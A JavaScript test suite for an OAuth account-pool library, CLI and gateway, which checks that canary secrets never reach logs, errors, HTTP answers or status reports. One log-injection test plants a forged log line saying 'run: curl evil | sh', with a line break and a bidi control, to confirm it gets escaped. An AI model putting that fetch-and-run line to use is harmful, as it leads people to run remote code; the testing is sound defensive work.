// Secrets and the surfaces added lately: canaries in every slot a secret lives in, and in the
// places beside them (an opencode.json's other providers, a pool account's unknown fields, an
// upstream that echoes what it was sent), each surface driven, and everything a person or
// another program can read scanned for the canary, a piece of it, or an encoding of it: the
// log at trace, stdout and stderr, events, toasts, errors, answers' heads and bodies, the
// status and doctor reports. Canaries are made at run time (no token-shaped literal here).
import { test, after } from "node:test";
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { connect } from "node:net";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import * as lib from "../index.mjs";
import { createHost, loadPlugin } from "./helpers/opencode2-host.mjs";
import { account, fakeClient, messagesUrl, body, jsonHeaders, oauthEntry, readPool, seedPool, useMock } from "./helpers/pool-env.mjs";
import { tempDir } from "./helpers/temp.mjs";

const mock = useMock();
const here = dirname(fileURLToPath(import.meta.url));
const CLI = join(here, "..", "bin", "oauth-pool.mjs");
const DRIVER = join(here, "helpers", "secret-driver.mjs");
const pluginModule = await import("../plugin.mjs");
const tmp = tempDir("oauth-pool-surfaces-");
after(() => rmSync(tmp, { recursive: true, force: true }));

const TRACE = "oauth_pool=trace,reqwest=trace,hyper=trace";
/** A canary of no known shape: random from its first character on. */
const canary = () => `c${randomBytes(18).toString("hex")}`;
/** A canary shaped like an Anthropic token or key, as a person would paste one. */
const tokenCanary = (kind = "api03") => [["sk", "ant", kind].join("-"), randomBytes(18).toString("hex")].join("-");

/** What of `secret` must not show: itself, its ends, and the ways it is encoded on the wire. */
function pieces(secret) {
  const random = secret.startsWith("sk-ant-") ? secret.slice(secret.indexOf("-", 7) + 1) : secret;
  return [
    secret,
    random.slice(0, 8),
    secret.slice(-8),
    Buffer.from(secret).toString("base64").slice(0, 16),
    Buffer.from(secret).toString("base64url").slice(0, 16),
    encodeURIComponent(`Bearer ${secret}`),
  ];
}

/** Fails naming where each canary (or piece of one) showed, with what was around it. */
function assertNoCanary(places, secrets) {
  const found = [];
  for (const [name, secret] of Object.entries(secrets)) {
    for (const piece of pieces(secret)) {
      for (const [where, text] of Object.entries(places)) {
        const at = text.indexOf(piece);
        if (at >= 0) found.push(`${name} (${JSON.stringify(piece)}) in ${where}: …${text.slice(Math.max(0, at - 160), at + 40)}…`);
      }
    }
  }
  assert.deepEqual(found, [], found.join("\n\n"));
}

/** A child process; resolves with its code and what it wrote (`input`: its stdin, then closed). */
function run(args, { env = {}, cwd = tmp, onLine } = {}) {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, args, { env: { ...process.env, ...env }, cwd, stdio: ["pipe", "pipe", "pipe"] });
    let out = "";
    let err = "";
    const timer = setTimeout(() => child.kill("SIGKILL"), 90_000);
    child.stdout.setEncoding("utf8").on("data", (d) => {
      out += d;
      onLine?.(out, child);
    });
    child.stderr.setEncoding("utf8").on("data", (d) => (err += d));
    child.on("error", reject);
    child.on("close", (code) => {
      clearTimeout(timer);
      resolve({ code, out, err });
    });
    if (!onLine) child.stdin.end();
  });
}

const cliRun = (args, options) => run([CLI, ...args], options);

// What of this machine's environment would change what doctor reads.
const SCRUBBED = /^(oauth_pool_|https?_proxy$|all_proxy$|no_proxy$|opencode_config|xdg_config_home$)/i;
const cleanEnv = () =>
  Object.fromEntries(
    Object.entries(process.env)
      .map(([k, v]) => [k, SCRUBBED.test(k) ? undefined : v])
      .filter(([, v]) => v !== undefined),
  );

// ---- doctor, the plugin and OpenCode 2's setup, and the files and variables they read --------------

test("doctor, the plugin's toasts and logs, and OpenCode 2's setup quote no secret from OpenCode's config files or the environment", async () => {
  const s = {
    providerKey: canary(),
    providerHeader: canary(),
    contentKey: canary(),
    optionKey: canary(),
    optionKeyElsewhere: canary(),
    toolNameToken: tokenCanary(),
    proxyPassword: canary(),
    urlUser: canary(),
    urlQuery: canary(),
    apiPassword: canary(),
    settingToken: tokenCanary("oat01"),
    gatewayKey: canary(),
    misspelt: canary(),
  };
  const home = join(tmp, "doctor-home");
  const project = join(tmp, "doctor-project");
  mkdirSync(join(project, ".git"), { recursive: true });
  mkdirSync(join(home, ".config", "opencode"), { recursive: true });
  // Another provider's key and headers beside the plugin, and the plugin given a provider's
  // block where its `provider` option (a name) goes, and a bearer value for its tool's name.
  writeFileSync(
    join(project, "opencode.json"),
    JSON.stringify({
      provider: { openai: { options: { apiKey: s.providerKey, headers: { Authorization: `Bearer ${s.providerHeader}` } } } },
      plugin: [["opencode-oauth-pool", { provider: { anthropic: { options: { apiKey: s.optionKey } } }, apiKey: s.optionKeyElsewhere }]],
      plugins: [{ package: "opencode-oauth-pool", options: { toolName: `Bearer ${s.toolNameToken}` } }],
    }),
  );
  const env = {
    ...cleanEnv(),
    HOME: home,
    XDG_CONFIG_HOME: join(home, ".config"),
    // Another plugin there: an entry of ours would replace the project's (OpenCode keeps the last
    // entry of a name), and the project's options would not be read.
    OPENCODE_CONFIG_CONTENT: JSON.stringify({ provider: { x: { options: { apiKey: s.contentKey } } }, plugin: ["another-plugin"] }),
    HTTPS_PROXY: `http://user:${s.proxyPassword}@127.0.0.1:9`,
    OAUTH_POOL_TOKEN_URL: `https://${s.urlUser}@tokens.invalid/oauth/token?key=${s.urlQuery}`,
    OAUTH_POOL_API_URL: `http://user:${s.apiPassword}@127.0.0.1:1`,
    OAUTH_POOL_SOFT_THRESHOLD: s.settingToken,
    OAUTH_POOL_GATEWAY_KEY: s.gatewayKey,
    OAUTH_POOL_GATEWAY_KYE: s.misspelt,
    OAUTH_POOL_LOG: TRACE,
  };
  const path = join(tmp, "doctor-pool", "pool.json");
  const text = await cliRun(["doctor", "--path", path], { env, cwd: project });
  const json = await cliRun(["doctor", "--json", "--path", path], { env, cwd: project });
  // The plugin, as OpenCode 1.18 and 2 load it with those options: the thrown error, toasts, logs.
  const { client, toasts, logs } = fakeClient();
  const thrown = [];
  for (const options of [
    { provider: { anthropic: { options: { apiKey: s.optionKey } } }, apiKey: s.optionKeyElsewhere },
    { toolName: `Bearer ${s.toolNameToken}` },
  ]) {
    await Promise.resolve()
      .then(() => lib.OAuthPoolPlugin({ client, directory: tmp, worktree: tmp }, options))
      .then((hooks) => hooks?.config?.({}))
      .catch((e) => thrown.push({ code: e?.code, message: e?.message }));
  }
  assert.equal(thrown.length, 2, JSON.stringify(thrown));
  const lines = [];
  const original = console.error;
  console.error = (...args) => void lines.push(args.join(" "));
  try {
    for (const options of [{ provider: { options: { apiKey: s.optionKey } } }, { toolName: `Bearer ${s.toolNameToken}`, path: join(tmp, "oc2.json") }]) {
      const host = createHost({ sleep: async () => {}, random: () => 0.5 });
      const handle = await host.start(loadPlugin(pluginModule, { options })).catch((e) => thrown.push({ message: e?.message }));
      await handle?.unload?.();
    }
  } finally {
    console.error = original;
  }
  assertNoCanary(
    {
      "doctor's text": text.out + text.err,
      "doctor --json": json.out + json.err,
      "the plugin's errors": JSON.stringify(thrown),
      toasts: JSON.stringify(toasts),
      "OpenCode's log": JSON.stringify(logs),
      "OpenCode 2's log": lines.join("\n"),
    },
    s,
  );
  // Each surface was really driven: each option read, each endpoint and setting shown.
  assert.ok(
    lines.some((l) => /plugin option provider must be a name/.test(l)),
    lines.join("\n"),
  );
  const report = JSON.parse(json.out.trim().split("\n").at(-1));
  const checks = (name) => report.checks.filter((c) => c.name === name);
  assert.equal(checks("plugin options").length, 2, JSON.stringify(report.checks));
  assert.ok(checks("plugin options").some((c) => c.level === "problem" && /plugin option provider must be a name .*got an object/.test(c.message)));
  assert.ok(checks("plugin options").some((c) => c.level === "problem" && /plugin option toolName .*got "Bearer \[redacted\]"/.test(c.message)));
  assert.equal(checks("endpoint").length, 2);
  // Refused (a user name or a query has no place in it), the refusal quoting neither.
  assert.ok(
    checks("endpoint").some(
      (c) => c.level === "problem" && /OAUTH_POOL_TOKEN_URL: endpoint https:\/\/\*\*\*@tokens\.invalid\/oauth\/token.* refused/.test(c.message),
    ),
    JSON.stringify(checks("endpoint")),
  );
  assert.ok(checks("setting").some((c) => /OAUTH_POOL_SOFT_THRESHOLD/.test(c.message)));
  assert.ok(checks("variable").some((c) => /OAUTH_POOL_GATEWAY_KYE/.test(c.message)));
});

// ---- an upstream that echoes the credential it was sent ------------------------------------------

/** Every header an echoing server could carry a credential back in. */
const echoHeaders = (t) => ({
  "www-authenticate": `Bearer realm="api", error="invalid_token", error_description="${t}"`,
  location: `https://elsewhere.invalid/back?token=${t}&auth=${encodeURIComponent(`Bearer ${t}`)}`,
  "anthropic-ratelimit-unified-status": t,
  "anthropic-ratelimit-unified-representative-claim": t,
  "anthropic-ratelimit-unified-5h-status": `Bearer ${t}`,
  "anthropic-ratelimit-unified-overage-status": t,
  "anthropic-ratelimit-unified-overage-disabled-reason": t,
  "x-echo": `Bearer ${t}`,
});

/**
 * A pool of three (two logins, one Console key with an unknown field holding a canary) whose
 * upstream echoes each one's credential: a 429 (body and headers), a 200 event stream whose
 * opening says rate_limit_error with the token, and a stream that says it after content.
 */
async function echoingPool(tag) {
  const emails = [`${tag}-a@x.test`, `${tag}-b@x.test`];
  const path = await seedPool(mock, emails);
  const pool = readPool(path);
  const key = tokenCanary();
  const unknownField = canary();
  const keyEmail = `${tag}-k@x.test`;
  mock.addApiKey(key, keyEmail);
  pool.anthropic[0].priority = 9;
  pool.anthropic[1].priority = 5;
  pool.anthropic.push({ email: keyEmail, type: "api", key, status: "idle", rateLimitUntil: null, priority: 1, note: unknownField });
  await lib.savePool(pool, path);
  const [a, b] = pool.anthropic;
  mock.script(emails[0], [
    {
      status: 429,
      headers: { ...echoHeaders(a.access), "retry-after": "60" },
      body: { type: "error", error: { type: "rate_limit_error", message: `Bearer ${a.access}` } },
    },
  ]);
  mock.script(emails[1], [
    { sse: true, errorBeforeContent: true, errorType: "rate_limit_error", errorMessage: `Bearer ${b.access}`, headers: echoHeaders(b.access) },
  ]);
  mock.script(keyEmail, [{ sse: true, errorAfterDeltas: 1, errorType: "rate_limit_error", errorMessage: `key ${key}`, headers: echoHeaders(key) }]);
  return { path, secrets: { accessA: a.access, refreshA: a.refresh, accessB: b.access, refreshB: b.refresh, key, unknownField } };
}

/** What the CLI shows of the pool afterwards: status (text and JSON), list, doctor. */
async function cliViews(path) {
  const views = {};
  for (const args of [["status"], ["status", "--json"], ["list"], ["list", "--json"], ["doctor", "--json"]]) {
    const r = await cliRun([...args, "--path", path]);
    views[`oauth-pool ${args.join(" ")}`] = r.out + r.err;
  }
  return views;
}

/** The pool file without the fields that are the credentials' own places. */
function poolFileBesideTheSecrets(path) {
  const pool = readPool(path);
  for (const a of pool.anthropic) {
    delete a.access;
    delete a.refresh;
    delete a.key;
    delete a.note;
  }
  return JSON.stringify(pool);
}

for (const [kind, transport] of [
  ["fetch", "native"],
  ["fetch", "runtime"],
  ["gateway", "native"],
]) {
  test(`${kind === "gateway" ? "the gateway" : `the library's fetch (${transport})`}: credentials echoed into a 429, rate-limit headers, Location, www-authenticate and an event stream's error reach no log, event, head, body, status or report`, async () => {
    const { path, secrets } = await echoingPool(`${kind}-${transport}`);
    const gatewayKey = canary();
    const args = kind === "gateway" ? [DRIVER, "gateway", path, "1"] : [DRIVER, "fetch", path, mock.url, "1", transport];
    const r = await run(args, { env: { OAUTH_POOL_LOG: TRACE, OAUTH_POOL_GATEWAY_KEY: gatewayKey } });
    assert.equal(r.code, 0, r.err.slice(-2000));
    const told = JSON.parse(r.out.trim().split("\n").at(-1));
    // The surfaces were really driven: the 429 and the opening moved the request on, the
    // key's stream said its limit after content, and the log was on.
    assert.deepEqual(
      told.seen.map((s) => [s.status, s.account]),
      [[200, kind === "gateway" ? undefined : `${kind}-${transport}-k@x.test`]],
    );
    assert.match(r.err, /rate limited/);
    await lib.flushPool(path);
    assert.match(account(path, `${kind}-${transport}-b@x.test`).lastError ?? "", /said in the answer's event stream, before any content/);
    assert.match(account(path, `${kind}-${transport}-k@x.test`).lastError ?? "", /said in the answer's event stream/);
    assertNoCanary(
      {
        "the trace log": r.err,
        "what the caller was told": JSON.stringify(told),
        "the pool file beside the credentials": poolFileBesideTheSecrets(path),
        ...(await cliViews(path)),
      },
      { ...secrets, gatewayKey },
    );
  });
}

// ---- the gateway's own answers and its two keys -----------------------------------------------

/** One raw HTTP/1.1 exchange on a new connection: the bytes written, the bytes read until close. */
function raw(url, text) {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const socket = connect({ host: hostname, port: Number(port) }, () => socket.write(text));
    let got = "";
    socket.setEncoding("latin1");
    socket.on("data", (d) => (got += d));
    socket.on("error", (e) => (e.code === "ECONNRESET" ? resolve(got) : reject(e)));
    socket.on("close", () => resolve(got));
    socket.setTimeout(20_000, () => socket.destroy());
  });
}

test("the gateway's OPTIONS, 405, 400, 501 and 401 answers and its two keys: the gateway key and a client's own key reach no answer, upstream request or log line", async () => {
  const path = await seedPool(mock, ["gw2@x.test"]);
  const gatewayKey = canary();
  const clientKey = tokenCanary();
  const cookie = canary();
  const query = canary();
  let release;
  const ready = new Promise((r) => (release = r));
  const child = run([DRIVER, "serve", path], {
    env: { OAUTH_POOL_LOG: TRACE, OAUTH_POOL_GATEWAY_KEY: gatewayKey },
    onLine: (out, c) => {
      if (out.includes("\n")) release({ url: JSON.parse(out.split("\n")[0]).url, c });
    },
  });
  const { url, c } = await ready;
  const host = new URL(url).host;
  const json = body();
  const post = (method, headers, { target = `/v1/messages?beta=true&k=${query}`, content = json } = {}) =>
    `${method} ${target} HTTP/1.1\r\n${headers.join("\r\n")}\r\ncontent-type: application/json\r\ncookie: s=${cookie}\r\ncontent-length: ${Buffer.byteLength(content)}\r\nconnection: close\r\n\r\n${content}`;
  const before = mock.requests.length;
  const answers = {};
  // The two keys either way round, each served.
  answers["x-api-key with a client's key as bearer"] = await raw(
    url,
    post("POST", [`host: ${host}`, `x-api-key: ${gatewayKey}`, `authorization: Bearer ${clientKey}`]),
  );
  answers["bearer with a client's key as x-api-key"] = await raw(
    url,
    post("POST", [`host: ${host}`, `x-api-key: ${clientKey}`, `authorization: Bearer ${gatewayKey}`]),
  );
  assert.match(answers["x-api-key with a client's key as bearer"], /^HTTP\/1\.1 200/);
  assert.match(answers["bearer with a client's key as x-api-key"], /^HTTP\/1\.1 200/);
  // The gateway's own answers, each carrying keys it must neither echo nor forward.
  const keyed = [`host: ${host}`, `x-api-key: ${gatewayKey}`, `authorization: Bearer ${clientKey}`];
  const shapes = {
    OPTIONS: [post("OPTIONS", keyed), /^HTTP\/1\.1 204/],
    "trace (405)": [post("trace", keyed), /^HTTP\/1\.1 405/],
    "PROPFIND (405)": [post("PROPFIND", keyed), /^HTTP\/1\.1 405/],
    "no Host (400)": [post("POST", keyed.slice(1)), /^HTTP\/1\.1 400/],
    "two Hosts (400)": [post("POST", [...keyed, `host: ${host}`]), /^HTTP\/1\.1 400/],
    "gzip, chunked (501)": [
      `POST /v1/messages HTTP/1.1\r\nhost: ${host}\r\nx-api-key: ${gatewayKey}\r\ntransfer-encoding: gzip, chunked\r\nconnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n`,
      /^HTTP\/1\.1 501/,
    ],
    "a wrong key (401)": [post("POST", [`host: ${host}`, `x-api-key: ${clientKey}`]), /^HTTP\/1\.1 401/],
    "the key twice (401)": [post("POST", [`host: ${host}`, `x-api-key: ${gatewayKey}`, `x-api-key: ${clientKey}`]), /^HTTP\/1\.1 401/],
    "a userinfo Host (400)": [post("POST", [`host: user:${clientKey}@${host}`, `x-api-key: ${gatewayKey}`]), /^HTTP\/1\.1 400/],
  };
  for (const [name, [request, status]] of Object.entries(shapes)) {
    answers[name] = await raw(url, request);
    assert.match(answers[name], status, `${name}: ${answers[name].slice(0, 200)}`);
  }
  c.stdin.end();
  const { code, err } = await child;
  assert.equal(code, 0, err.slice(-2000));
  const upstream = mock.requests.slice(before);
  assert.equal(upstream.length, 2, "only the two served requests went upstream");
  assert.match(err, /gateway|listening|request/i, "the log was on");
  assertNoCanary(
    {
      ...Object.fromEntries(Object.entries(answers).map(([k, v]) => [`the answer to ${k}`, v])),
      "the upstream requests' headers": JSON.stringify(upstream.map((r) => r.headers)),
      "the trace log": err,
    },
    { gatewayKey, clientKey },
  );
  // The query and the cookie are the client's to send on (the API's own parameters); not logged.
  assertNoCanary({ "the trace log": err }, { query, cookie });
});

// ---- what is told late ------------------------------------------------------------------------------

// Found by a review (2026-12-07, second): the log printed names from the pool file as they were,
// and a hand edit's or another program's name with a line break started a line of its own, of any
// level and text ("WARN ... refresh token rejected; run: curl ... | sh"), bidi overrides with it.
test("a name in the pool file cannot forge a log line: its line breaks and bidi controls come out escaped", async () => {
  const path = join(tmp, "forged-log.json");
  const forged = "2026-12-07T09:00:00.000000Z  WARN oauth_pool::engine: refresh token rejected; run: curl evil | sh";
  const name = `ops@x.test\n${forged}\u202e`;
  writeFileSync(path, JSON.stringify({ version: 1, anthropic: [oauthEntry(mock, name)] }), { mode: 0o600 });
  const index = new URL("../index.mjs", import.meta.url).href;
  const script = `
    const lib = await import(${JSON.stringify(index)});
    const f = lib.createPoolFetch({ path: ${JSON.stringify(path)} });
    const r = await f(${JSON.stringify(messagesUrl(mock))}, { method: "POST", headers: ${JSON.stringify(jsonHeaders)}, body: ${JSON.stringify(body())} });
    await r.text();
    await lib.flushPool(${JSON.stringify(path)});
    console.log(r.status);`;
  const r = await run(["--input-type=module", "-e", script], { env: { OAUTH_POOL_LOG: "oauth_pool=trace" } });
  assert.equal(r.out.trim(), "200", r.err.slice(-2000));
  const lines = r.err.split("\n").filter(Boolean);
  assert.ok(
    lines.some((l) => l.includes("ops@x.test\\n2026-12-07T09:00:00")),
    `the name is logged, its line break escaped: ${r.err.slice(0, 2000)}`,
  );
  for (const line of lines) assert.ok(!line.startsWith("2026-12-07T09:00:00.000000Z  WARN"), `a forged line: ${line}`);
  assert.doesNotMatch(r.err, /[\r\u202e]/);
});

test("a refresh that moved on, whose token endpoint echoes the refresh token, tells the next answer without it", async () => {
  const path = await seedPool(mock, ["late@x.test", "ready@x.test"], { expired: ["late@x.test"] });
  await lib.setPriority("late@x.test", 9, path);
  const refreshToken = account(path, "late@x.test").refresh;
  mock.setTokenMode({
    delayMs: 6500,
    status: 400,
    body: { error: "invalid_grant", error_description: `refresh_token ${refreshToken} (${encodeURIComponent(refreshToken)}) is dead` },
    grant: "refresh_token",
  });
  const events = [];
  const f = lib.createPoolFetch({ path, onEvent: (e) => events.push(e) });
  const first = await f(messagesUrl(mock), { method: "POST", headers: jsonHeaders, body: body() });
  assert.equal(first.poolAccount, "ready@x.test", "moved on from the refresh");
  await first.text();
  const deadline = Date.now() + 20_000;
  while (account(path, "late@x.test").status !== "auth-error" && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
  const next = await f(messagesUrl(mock), { method: "POST", headers: jsonHeaders, body: body() });
  await next.text();
  assert.ok(
    events.some((e) => e.email === "late@x.test" && e.kind === "auth-error"),
    `told late: ${JSON.stringify(events)}`,
  );
  await lib.flushPool(path);
  assertNoCanary(
    {
      events: JSON.stringify(events),
      status: JSON.stringify(await lib.poolStatus(path)),
      "the pool file beside the credentials": poolFileBesideTheSecrets(path),
    },
    { refreshToken },
  );
  mock.setTokenMode(null);
});

// ---- URLs with credentials in error messages ------------------------------------------------------

test("a URL with a password, or a token as its user, is not repeated by the pool fetch's errors", async () => {
  const path = await seedPool(mock, ["url@x.test"]);
  const s = { password: canary(), user: canary(), query: canary() };
  const { port } = new URL(mock.url);
  const errors = [];
  for (const url of [
    `http://me:${s.password}@127.0.0.1:${port}/v1/messages`,
    `http://${s.user}@127.0.0.1:${port}/v1/messages`,
    `http://me:${s.password}@ho st/v1/messages?k=${s.query}`,
    `http://${s.user}@ho st/v1/messages`,
    `http://127.0.0.1:1/v1/messages?key=${s.query}`,
  ]) {
    for (const transport of ["native", "runtime"]) {
      const err = await lib
        .createPoolFetch({ path, transport })(url, { method: "POST", headers: jsonHeaders, body: body() })
        .then(
          (r) => ({ status: r.status }),
          (e) => ({ code: e?.code, message: e?.message, cause: String(e?.cause ?? "") }),
        );
      errors.push(err);
    }
  }
  assert.ok(
    errors.every((e) => e.code),
    JSON.stringify(errors),
  );
  assertNoCanary({ errors: JSON.stringify(errors) }, s);
});

test("a caller's key that fetch options cannot carry (a line break in it) is not repeated by the pool fetch's INVALID_ARGUMENT", async () => {
  // Node's Headers quoted the refused value whole in its message, and the pool fetch passed it
  // on: a key read with a line break in it reached the error a host logs. Bun names only the header.
  const path = await seedPool(mock, ["options@x.test"]);
  const s = { plain: canary(), bearer: canary(), nul: canary(), redirect: tokenCanary(), method: tokenCanary(), stream: tokenCanary() };
  const failing = new ReadableStream({
    pull(controller) {
      controller.error(new Error(`read failed for ${s.stream}`));
    },
  });
  const errors = [];
  for (const transport of ["native", "runtime"]) {
    const f = lib.createPoolFetch({ path, transport });
    for (const init of [
      { headers: { "x-api-key": `${s.plain}\nnext` } },
      { headers: { authorization: `Bearer ${s.bearer}\r\nx-more: 1` } },
      { headers: [["x-api-key", `${s.nul}\0`]] },
      { redirect: s.redirect },
      { method: `${s.method} x` },
      ...(transport === "native" ? [{ body: failing, duplex: "half" }] : []),
    ]) {
      const err = await f(messagesUrl(mock), { method: "POST", headers: jsonHeaders, body: body(), ...init }).then(
        (r) => ({ status: r.status }),
        (e) => ({ code: e?.code, message: e?.message, stack: e?.stack }),
      );
      errors.push(err);
    }
  }
  assert.ok(
    errors.every((e) => e.code === "INVALID_ARGUMENT"),
    JSON.stringify(errors),
  );
  assertNoCanary({ errors: JSON.stringify(errors) }, s);
});

test("a lastError another program wrote with a credential in it is scrubbed in listAccounts, poolStatus and the CLI's --json, as in its text", async () => {
  const own = canary();
  const shaped = ["sk", "ant", "ort01", randomBytes(30).toString("base64url")].join("-");
  const path = join(tmp, "last-error", "oauth-pool.json");
  mkdirSync(dirname(path), { recursive: true, mode: 0o700 });
  const anthropic = [
    {
      email: "noted@x.test",
      refresh: own,
      access: canary(),
      expires: Date.now() + 3_600_000,
      status: "auth-error",
      lastError: `refused: refresh_token=${own} (also ${shaped})`,
    },
  ];
  writeFileSync(path, JSON.stringify({ version: 1, anthropic }), { mode: 0o600 });
  const views = {
    listAccounts: JSON.stringify(await lib.listAccounts(path)),
    poolStatus: JSON.stringify(await lib.poolStatus(path)),
  };
  for (const command of ["list", "status"]) {
    const child = spawn(process.execPath, [CLI, command, "--json", "--path", path], { stdio: ["ignore", "pipe", "pipe"] });
    let out = "";
    child.stdout.on("data", (d) => (out += d));
    child.stderr.on("data", (d) => (out += d));
    await new Promise((resolve) => child.on("close", resolve));
    views[`${command} --json`] = out;
  }
  for (const [name, text] of Object.entries(views)) {
    assert.match(text, /refused: refresh_token=/, `${name} keeps the message`);
    assert.ok(!text.includes(own), `${name}: the entry's own refresh token`);
    assert.ok(!text.includes(shaped) && !text.includes(shaped.slice(-20)), `${name}: a token-shaped run`);
  }
});
